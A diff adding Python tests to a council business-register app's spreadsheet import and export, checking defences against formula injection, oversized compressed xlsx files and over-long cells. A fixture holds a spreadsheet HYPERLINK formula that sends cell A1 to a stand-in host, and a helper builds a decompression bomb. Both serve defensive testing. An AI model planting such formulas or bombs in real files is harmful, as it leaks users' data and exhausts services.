@@ -2,6 +2,7 @@
 separator, .xlsx, and every kind of bad file; export in CSV and .xlsx that reads back."""
 
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import pytest
@@ -14,6 +15,7 @@ from brott.models import Role
 from brott.models.certification import Business
 
 from .conftest import logged_in
+from .swedish import sv
 
 NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 URL = "/r/borlange/certifiering/import"
@@ -21,7 +23,9 @@ BOM = b"\xef\xbb\xbf"
 
 
 @pytest.fixture
-def client(app, frozen, council, coordinator, make_place):
+def client(app, frozen, council, coordinator, make_place, monkeypatch, tmp_path):
+    # previews wait in a temporary folder, never the instance folder
+    monkeypatch.setitem(app.config, "REGISTER_IMPORT_DIR", str(tmp_path))
     make_place(council, "Torget")
     return logged_in(app, coordinator)
 
@@ -168,3 +172,119 @@ def test_the_export_reads_back_as_unchanged_in_csv_and_xlsx(client):
     assert sheet.max_row == 3
     page = upload(client, xlsx, "export.xlsx").get_data(as_text=True)
     assert 'name="token"' not in page and "form-errors" not in page
+
+
+FORMULA_NAME = '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_formulas_are_exported_as_text_and_read_back_unchanged(client, tmp_path):
+    content = (
+        b"Namn;Orgnr;Telefon;Bransch;Kontaktperson\r\n"
+        b'"=HYPERLINK(""http://x/?""&A1)";5560360793;+46 70 123 45 67;-5;@Anna\r\n'
+        b"'=redan skyddad;5567037485;-46;'-x;\r\n"
+    )
+    page = upload(client, content).get_data(as_text=True)
+    client.post(f"{URL}/bekrafta", data={"token": token_of(page)})
+    assert list(tmp_path.glob("*.json")) == []  # the preview waited here and was taken
+    stored = {b.orgnr: b for b in businesses()}
+    first, second = stored["556036-0793"], stored["556703-7485"]
+    assert (first.name, first.phone, first.industry, first.contact_name) == (
+        FORMULA_NAME,
+        "+46 70 123 45 67",
+        "-5",
+        "@Anna",
+    )
+    # the one "'" before a formula is taken off, as after an export
+    assert (second.name, second.phone, second.industry) == ("=redan skyddad", "-46", "-x")
+
+    csv_text = client.get("/r/borlange/certifiering/export.csv").data.decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://x/?""&A1)"' in csv_text
+    assert ";'+46 70 123 45 67;'-5;" in csv_text and ";'@Anna;" in csv_text
+    assert "\n=" not in csv_text and ";=" not in csv_text and ";+" not in csv_text
+    page = upload(client, csv_text.encode("utf-8-sig")).get_data(as_text=True)
+    assert 'name="token"' not in page and "form-errors" not in page
+
+    xlsx = client.get("/r/borlange/certifiering/export.xlsx").data
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert "'" + FORMULA_NAME in [cell.value for cell in cells]
+    page = upload(client, xlsx, "export.xlsx").get_data(as_text=True)
+    assert 'name="token"' not in page and "form-errors" not in page
+    assert [(b.name, b.phone) for b in businesses()] == [(b.name, b.phone) for b in stored.values()]
+
+
+def xlsx_of(*rows, extra: tuple[str, bytes] | None = None) -> bytes:
+    book = Workbook()
+    sheet = book.active
+    for row in rows:
+        sheet.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    if extra is not None:
+        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr(*extra)
+    return out.getvalue()
+
+
+def test_an_xlsx_that_unpacks_to_too_much_is_refused(app, client):
+    bomb = xlsx_of(
+        ["Namn", "Orgnr"], ["Kiosken", "5560360793"], extra=("xl/x.bin", bytes(51 << 20))
+    )
+    assert len(bomb) < 1024 * 1024
+    response = upload(client, bomb, "lista.xlsx")
+    expected = sv(
+        app,
+        "The Excel file unpacks to more than %(limit)d MB. "
+        "Save it as CSV or split it into smaller files.",
+        limit=50,
+    )
+    assert response.status_code == 400 and expected in response.get_data(as_text=True)
+    assert businesses() == []
+
+
+def test_an_xlsx_with_a_long_cell_or_far_too_many_empty_rows_is_refused(app, client):
+    long_cell = xlsx_of(["Namn", "Orgnr"], ["Kiosken", "5560360793"], ["x" * 1001, "5567037485"])
+    response = upload(client, long_cell, "lista.xlsx")
+    expected = sv(
+        app, "Line %(line)d has a cell of more than %(limit)d characters.", line=3, limit=1000
+    )
+    assert response.status_code == 400 and expected in response.get_data(as_text=True)
+
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["Namn", "Orgnr"])
+    sheet.append(["Kiosken", "5560360793"])
+    sheet.cell(row=7000, column=1, value="Sist")  # 6997 empty rows between
+    out = io.BytesIO()
+    book.save(out)
+    response = upload(client, out.getvalue(), "lista.xlsx")
+    assert response.status_code == 400 and "5000" in response.get_data(as_text=True)
+
+    # 900 empty rows are fine, and columns far to the right are not read
+    book = Workbook()
+    sheet = book.active
+    sheet.append(["Namn", "Orgnr"])
+    sheet.append(["Kiosken", "5560360793"])
+    sheet.cell(row=900, column=1, value="Sist AB")
+    sheet.cell(row=900, column=2, value="5567037485")
+    sheet.cell(row=2, column=500, value="långt bort")
+    out = io.BytesIO()
+    book.save(out)
+    page = upload(client, out.getvalue(), "lista.xlsx").get_data(as_text=True)
+    assert "Sist AB" in page and 'name="token"' in page
+
+
+def test_a_value_longer_than_its_column_is_a_row_error(app, client):
+    content = (
+        "Namn;Orgnr;Telefon;Bransch\n"
+        f"{'N' * 121};5560360793;;\n"
+        f"Kiosken;5567037485;{'1' * 41};{'B' * 80}\n"
+        f"Rätt AB;5569999999;{'1' * 40};\n"
+    ).encode()
+    response = upload(client, content)
+    page = response.get_data(as_text=True)
+    assert f"Namn: {sv(app, 'At most %(limit)d characters.', limit=120)}" in page
+    assert f"Telefon: {sv(app, 'At most %(limit)d characters.', limit=40)}" in page
+    assert "Bransch: " not in page  # 80 characters fit
+    assert 'name="token"' not in page and businesses() == []
